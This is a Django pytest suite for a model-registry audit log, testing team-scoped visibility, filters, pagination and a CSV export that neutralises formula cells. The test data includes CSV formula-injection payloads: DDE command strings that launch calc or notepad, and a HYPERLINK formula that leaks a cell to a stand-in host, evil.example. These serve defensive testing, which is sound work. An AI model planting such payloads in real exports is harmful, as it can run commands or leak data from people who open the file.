"""The audit log: page, CSV export and API, each cut to what the reader may see, with filters."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.utils import timezone

from releases import services
from releases.audit_export import neutralise
from tests.factories import ModelVersionFactory, RegisteredModelFactory, TeamFactory

pytestmark = pytest.mark.django_db

FORMULA = "=cmd|' /C calc'!A0"


def _at(day: int, hour: int = 12) -> dt.datetime:
    return dt.datetime(2026, 11, day, hour, 0, tzinfo=dt.UTC)


@pytest.fixture
def history(
    monkeypatch: pytest.MonkeyPatch, owner: Any, reviewer: Any, outsider: Any, risk_model: Any
) -> dict[str, Any]:
    """Events on three days in two teams, plus a token change and a system event."""
    growth_model = RegisteredModelFactory(name="churn", team=TeamFactory(name="growth"))
    v1 = ModelVersionFactory(registered_model=risk_model, version=1, uploaded_by=owner)

    def record(when: dt.datetime, **kwargs: Any) -> Any:
        monkeypatch.setattr(timezone, "now", lambda: when)
        return services.audit_record(**kwargs)

    events = {
        "upload": record(_at(2), actor=owner, action="version.upload", model_version=v1),
        "approve": record(
            _at(3),
            actor=reviewer,
            action="version.approve",
            model_version=v1,
            payload={
                "comment": FORMULA,
                "before": {"status": "validated"},
                "after": {"status": "approved"},
            },
        ),
        "other_team": record(
            _at(3), actor=outsider, action="model.register", registered_model=growth_model
        ),
        "token": record(_at(4), actor=owner, action="token.rotate", payload={"username": "dana"}),
        "system": record(_at(4), actor=None, action="worker.ping", payload={"token": "t"}),
    }
    monkeypatch.undo()
    return events


def _ids(rows: list[dict[str, Any]]) -> list[int]:
    return [r["id"] for r in rows]


# --- API ---------------------------------------------------------------------------------------


def test_api_lists_events_newest_first_cut_to_the_readers_teams(
    api: Any, history: dict[str, Any], owner: Any, outsider: Any, admin_user: Any, labeler: Any
) -> None:
    h = history
    mine = api(owner).get("/api/v1/audit/").json()
    assert _ids(mine["results"]) == [h["token"].pk, h["approve"].pk, h["upload"].pk]
    approve = mine["results"][1]
    assert approve["actor"] == "rui" and approve["model"] == "credit-risk"
    assert approve["version"] == 1 and approve["payload"]["comment"] == FORMULA
    # Another team sees only its own event; a labeler of risk sees risk's, not dana's token.
    assert _ids(api(outsider).get("/api/v1/audit/").json()["results"]) == [h["other_team"].pk]
    assert _ids(api(labeler).get("/api/v1/audit/").json()["results"]) == [
        h["approve"].pk, h["upload"].pk,
    ]  # fmt: skip
    everything = api(admin_user).get("/api/v1/audit/").json()
    assert set(_ids(everything["results"])) == {e.pk for e in h.values()}
    assert api(None).get("/api/v1/audit/").status_code == 401


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("model=credit-risk", ["approve", "upload"]),
        ("model=churn", []),  # another team's model: nothing, not an error
        ("actor=rui", ["approve"]),
        ("action=version.approve", ["approve"]),
        ("action=version.", ["approve", "upload"]),
        ("since=2026-11-03", ["token", "approve"]),
        ("until=2026-11-02", ["upload"]),
        ("since=2026-11-03&until=2026-11-03", ["approve"]),
        ("since=2026-11-03T13:00:00Z", ["token"]),
        ("until=2026-11-03T11:59:59%2B00:00", ["upload"]),
        ("model=credit-risk&actor=dana", ["upload"]),
    ],
)
def test_api_filters(
    api: Any, history: dict[str, Any], owner: Any, query: str, expected: list[str]
) -> None:
    response = api(owner).get(f"/api/v1/audit/?{query}")
    assert response.status_code == 200
    assert _ids(response.json()["results"]) == [history[k].pk for k in expected]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("since=yesterday", "since"),
        ("until=2026-13-40", "until"),
        ("since=2026-11-05&until=2026-11-01", "until"),
    ],
)
def test_api_bad_filter_values_are_a_400_naming_the_parameter(
    api: Any, owner: Any, query: str, field: str
) -> None:
    response = api(owner).get(f"/api/v1/audit/?{query}")
    assert response.status_code == 400
    body = response.json()
    assert body["field"] == field and body["detail"]


def test_api_is_paginated(api: Any, history: dict[str, Any], admin_user: Any) -> None:
    page = api(admin_user).get("/api/v1/audit/?limit=2").json()
    assert page["count"] == 5 and len(page["results"]) == 2 and page["next"]


def test_audit_api_is_in_the_openapi_schema(api: Any, owner: Any) -> None:
    schema = api(owner).get("/api/schema/?format=json").json()
    operation = schema["paths"]["/api/v1/audit/"]["get"]
    names = {p["name"] for p in operation["parameters"]}
    assert {"model", "actor", "action", "since", "until", "limit", "offset"} <= names
    assert "/api/v1/models/{name}/webhooks/" in schema["paths"]


# --- Page --------------------------------------------------------------------------------------


def test_audit_page_shows_the_readers_events_with_filters(
    client: Any, history: dict[str, Any], owner: Any, outsider: Any
) -> None:
    client.force_login(owner)
    page = client.get("/audit/")
    text = page.content.decode()
    assert page.status_code == 200
    assert "version.approve" in text and "token.rotate" in text and "version.upload" in text
    assert "churn" not in text and "worker.ping" not in text
    filtered = client.get("/audit/?action=version.upload").content.decode()
    assert "version.upload" in filtered and "token.rotate" not in filtered.split("<table")[1]
    client.force_login(outsider)
    text = client.get("/audit/").content.decode()
    assert "churn" in text and "credit-risk" not in text and "version.approve" not in text


def test_audit_page_says_which_filter_is_wrong(client: Any, owner: Any) -> None:
    client.force_login(owner)
    page = client.get("/audit/?since=last+tuesday")
    assert page.status_code == 400
    assert "Use an ISO date" in page.content.decode()


def test_audit_page_is_paginated(client: Any, admin_user: Any) -> None:
    for n in range(55):
        services.audit_record(actor=admin_user, action="team.update", payload={"n": n})
    client.force_login(admin_user)
    first = client.get("/audit/").content.decode()
    assert "Page 1 of 2" in first
    assert "Page 2 of 2" in client.get("/audit/?page=2").content.decode()


def test_model_page_shows_its_history_linked_to_the_audit_log(
    client: Any, history: dict[str, Any], owner: Any
) -> None:
    client.force_login(owner)
    text = client.get("/models/credit-risk/").content.decode()
    history_part = text.split('id="history-h"')[1]
    assert "version.approve" in history_part and "version.upload" in history_part
    assert "/audit/?model=credit-risk" in history_part
    assert "/audit/export.csv?model=credit-risk" in history_part


# --- CSV export --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
     '=HYPERLINK("http://evil.example/?leak="&A1, "click")'],
)  # fmt: skip
def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert neutralise("credit-risk") == "credit-risk"
    assert neutralise(None) == ""


def _csv(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_csv_export_neutralises_formulas_and_follows_the_filters(
    client: Any, history: dict[str, Any], owner: Any, reviewer: Any, monkeypatch: Any
) -> None:
    from django.contrib.auth.models import User

    # A username may start with '@', '+' or '-': it is a cell an attacker controls too.
    sneaky = User.objects.create_user("@SUM(A1)")
    services.audit_record(
        actor=sneaky, action="version.reject", model_version=history["upload"].model_version,
        payload={"comment": "+cmd|' /C notepad'!A0"},
    )  # fmt: skip
    client.force_login(owner)
    response = client.get("/audit/export.csv?model=credit-risk")
    assert response.status_code == 200
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv(response)
    assert rows[0] == ["time", "actor", "action", "team", "model", "version", "comment", "payload"]
    by_action = {r[2]: r for r in rows[1:]}
    assert set(by_action) == {"version.reject", "version.approve", "version.upload"}
    assert by_action["version.approve"][6] == "'" + FORMULA
    assert by_action["version.reject"][1] == "'@SUM(A1)"
    assert by_action["version.reject"][6] == "'+cmd|' /C notepad'!A0"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_export_is_cut_to_the_readers_teams(
    client: Any, history: dict[str, Any], outsider: Any
) -> None:
    client.force_login(outsider)
    rows = _csv(client.get("/audit/export.csv"))
    assert [r[4] for r in rows[1:]] == ["churn"]


def test_csv_export_refuses_a_bad_filter_with_a_400(client: Any, owner: Any) -> None:
    client.force_login(owner)
    response = client.get("/audit/export.csv?until=soon")
    assert response.status_code == 400 and b"until" in response.content


def test_audit_pages_need_a_sign_in(client: Any) -> None:
    assert client.get("/audit/").status_code == 302
    assert client.get("/audit/export.csv").status_code == 302


def test_a_person_sees_an_admin_revoking_their_token_but_not_others_tokens(
    api: Any, owner: Any, reviewer: Any, admin_user: Any
) -> None:
    services.api_token_rotate(actor=reviewer, user=reviewer)
    services.api_tokens_revoke(actor=admin_user, user=reviewer)
    services.api_token_rotate(actor=owner, user=owner)
    services.api_tokens_revoke(actor=admin_user, user=owner)
    rows = api(owner).get("/api/v1/audit/?action=token.").json()["results"]
    assert [(r["action"], r["actor"], r["payload"]["username"]) for r in rows] == [
        ("token.revoke", "ada", "dana"),
        ("token.rotate", "dana", "dana"),
    ]
